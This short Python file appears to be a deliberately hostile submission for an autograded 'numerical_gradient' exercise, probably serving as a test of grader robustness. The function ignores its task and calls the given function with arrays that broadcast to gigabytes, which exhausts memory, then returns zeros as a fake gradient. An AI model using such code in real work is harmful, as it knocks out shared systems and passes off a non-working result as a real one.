"""Calls the function that it is given with two small arrays, out of which that one makes gigabytes.

assignment: 00_instruments
lost: numerical_gradient
"""

# %% numerical_gradient
import numpy as np


def numerical_gradient(f, X, h=1e-5):
    for n in (45_000, 400_000):
        column, row = np.ones((n, 1), np.uint8), np.ones((1, n), np.uint8)
        try:
            f((column, row))
        except Exception:
            pass
    return np.zeros(X.shape)
